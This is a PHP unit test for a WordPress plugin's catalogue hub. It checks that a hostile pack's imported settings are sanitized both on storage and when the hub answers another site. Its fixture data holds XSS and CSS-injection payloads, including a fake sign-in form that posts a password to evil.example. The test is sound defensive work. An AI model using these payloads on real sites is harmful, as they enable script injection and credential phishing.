<?php
/**
 * Security [20]: a pack's import settings from a catalogue bundle are
 * limited on the hub's way in and on its way out.
 *
 * @package Stencilbox
 */

namespace Stencilbox\Tests\Hub\Catalog;

use Stencilbox\Hub\Catalog\Bundle;
use Stencilbox\Hub\Catalog\CatalogueReader;
use Stencilbox\Hub\Rest\HubController;
use Stencilbox\Tests\CatalogTestCase;
use Stencilbox\Tests\HubHelpers;

/**
 * A bundle whose pack carries markup in its title, tagline and entry
 * titles, and CSS in its colours, typography and sizes.
 */
final class PackSettingsIntakeTest extends CatalogTestCase {
	use HubHelpers;

	private const FORM = '<form id="pwn" action="https://evil.example/"><input name="pwd" type="password"><button>Sign in</button></form>';

	/**
	 * The bundle's zip.
	 *
	 * @var string
	 */
	private string $zip = '';

	protected function tearDown(): void {
		wp_delete_file( $this->zip );
		parent::tearDown();
	}

	/**
	 * The hostile settings.
	 *
	 * @return array<string, mixed>
	 */
	private static function settings(): array {
		return array(
			'site_title'    => 'Mallory<img src=x onerror=alert(1)>',
			'tagline'       => self::FORM . ' Session expired',
			'theme'         => 'twentytwentyfive',
			'colors'        => array(
				array(
					'id'    => 'Primary',
					'title' => 'Primary<script>alert(1)</script>',
					'color' => '#1F4E79',
				),
				array(
					'id'    => 'evil',
					'title' => 'Evil',
					'color' => '#fff}</style>' . self::FORM,
				),
				array(
					'id'    => 'named',
					'title' => 'Named',
					'color' => 'red;background:url(https://evil.example/x)',
				),
			),
			// An Elementor kit's field set, the spec's other spelling.
			'custom_colors' => array(
				array(
					'_id'   => 'accent"><b>',
					'title' => 'Accent',
					'color' => '#abc',
				),
			),
			'typography'    => array(
				array(
					'id'              => 'body',
					'title'           => 'Body',
					'font_family'     => 'Inter";}</style>' . self::FORM,
					'font_weight'     => '400;}</style>',
					'text_transform'  => 'uppercase',
					'text_decoration' => 'underline;color:red',
					'font_size'       => array(
						'desktop' => array(
							'value' => 16,
							'unit'  => 'px',
						),
						'mobile'  => array(
							'value' => 15,
							'unit'  => 'px;}</style>',
						),
					),
				),
				array(
					'id'                => 'heading',
					'title'             => 'Headings',
					'font_family'       => 'Poppins',
					'font_family_value' => 'x;}</style>' . self::FORM,
					'font_weight'       => '700',
				),
			),
		);
	}

	/**
	 * Imports the bundle; answers the pack's id.
	 */
	private function import(): int {
		$this->zip = (string) tempnam( sys_get_temp_dir(), 'sbx-bundle' );
		$zip       = new \ZipArchive();
		$zip->open( $this->zip, \ZipArchive::OVERWRITE );
		$zip->addFromString(
			'catalogue.json',
			(string) wp_json_encode(
				array(
					'version' => 1,
					'packs'   => array(
						array(
							'slug'            => 'mallory-pack',
							'name'            => 'Mallory - Pack',
							'thumbnail'       => 'images/m.svg',
							'platforms'       => array( 'gutenberg' ),
							'fullsite_import' => true,
							'has_settings'    => true,
							'settings'        => self::settings(),
						),
					),
					'items'   => array(
						array(
							'slug'      => 'mallory-home',
							'name'      => 'Mallory Home',
							'type'      => 'page',
							'pack'      => 'mallory-pack',
							'thumbnail' => 'images/m.svg',
							'platforms' => array( 'gutenberg' => 'gutenberg/mallory-home.html' ),
						),
					),
				)
			)
		);
		$zip->addFromString( 'gutenberg/mallory-home.html', "<!-- wp:paragraph -->\n<p>Home</p>\n<!-- /wp:paragraph -->" );
		$zip->addFromString( 'images/m.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4" fill="#123"/></svg>' );
		$zip->close();
		( new Bundle( $this->catalog, $this->importer, new CatalogueReader(), $this->refs ) )->import( $this->zip );
		return (int) $this->catalog->id_of( 'gutenberg', 'mallory-pack', 'pack' );
	}

	/**
	 * Asserts settings are limited: plain text, hex colours, known keywords
	 * and units, family names without CSS punctuation, no family value.
	 *
	 * @param array<string, mixed> $settings Settings.
	 * @param string               $where    Where they were read.
	 */
	private function assert_limited( array $settings, string $where ): void {
		$this->assertSame( 'Mallory', $settings['site_title'], $where );
		$this->assertSame( 'Sign in Session expired', $settings['tagline'], $where );
		$this->assertSame(
			array(
				array(
					'id'    => 'primary',
					'title' => 'Primary',
					'color' => '#1F4E79',
				),
				array(
					'id'    => 'accentb',
					'title' => 'Accent',
					'color' => '#abc',
				),
			),
			$settings['colors'],
			$where
		);
		$this->assertSame(
			array(
				array(
					'id'             => 'body',
					'title'          => 'Body',
					'font_family'    => 'InterSign in',
					'text_transform' => 'uppercase',
					'font_size'      => array(
						'desktop' => array(
							'value' => 16,
							'unit'  => 'px',
						),
					),
				),
				array(
					'id'          => 'heading',
					'title'       => 'Headings',
					'font_family' => 'Poppins',
					'font_weight' => '700',
				),
			),
			$settings['typography'],
			$where
		);
	}

	public function test_a_hostile_packs_settings_are_limited_on_the_hubs_way_in_and_out(): void {
		$id = $this->import();
		$this->assertGreaterThan( 0, $id );

		// As the hub stores them (its bundle export writes them so too).
		$stored = json_decode( (string) $this->catalog->row( $id )['settings'], true );
		$this->assert_limited( $stored, 'stored' );
		$this->assertSame( 'twentytwentyfive', $stored['theme'], 'the theme it names is kept' );

		// As the hub answers another site.
		update_option( HubController::REMOTE_OPTION, 1 );
		$account = $this->hub_account();
		$answer  = $this->hub( 'GET', "/items/{$id}/full-site", array(), $account['key'] );
		$this->assertSame( 200, $answer->get_status(), (string) wp_json_encode( $answer->get_data() ) );
		$this->assert_limited( $answer->get_data()['settings'], 'answered' );
	}
}
